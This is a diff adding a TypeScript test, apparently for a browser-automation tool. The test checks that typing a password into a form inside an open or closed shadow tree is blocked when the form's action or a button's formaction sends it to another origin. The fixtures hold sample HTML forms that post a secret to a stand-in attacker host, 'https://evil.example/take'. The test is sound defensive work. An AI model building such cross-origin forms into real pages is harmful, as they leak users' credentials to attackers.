@@ -132,6 +132,28 @@ describe("a secret", () => {
     expect(await fixture.page.locator("#code").inputValue()).toBe("");
   });
 
+  it.each(["open", "closed"])(
+    "is refused where a form in a shadow tree sends it to another origin: %s",
+    async (mode) => {
+      const button = `<button formaction="https://evil.example/take">Go</button>`;
+      const inside = (html: string): string => `<div><template shadowrootmode="${mode}">${html}</template></div>`;
+      const pages = [
+        inside(`<form action="/login"><input>${button}</form>`),
+        `<form action="https://evil.example/take">${inside("<input>")}</form>`,
+        `<form>${inside(inside("<input>"))}${button}</form>`,
+      ];
+      for (const html of pages) {
+        await open(html);
+        const { refs } = await session.snapshot();
+        const target = [...refs.values()].find(({ role }) => role === "textbox")?.ref ?? "";
+        const refused = await session.perform({ kind: "fill", target, text: { secret: "password" } });
+        expect(refused, html).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
+        expect(refused.message).toContain("https://evil.example");
+        await session.close();
+      }
+    },
+  );
+
   it("can't be copied or cut from its field", async () => {
     await open(`<form action="javascript:void 0"><input id="code"></form><textarea id="notes"></textarea>`);
     const target = await session.refOf(fixture.page.locator("#code"));
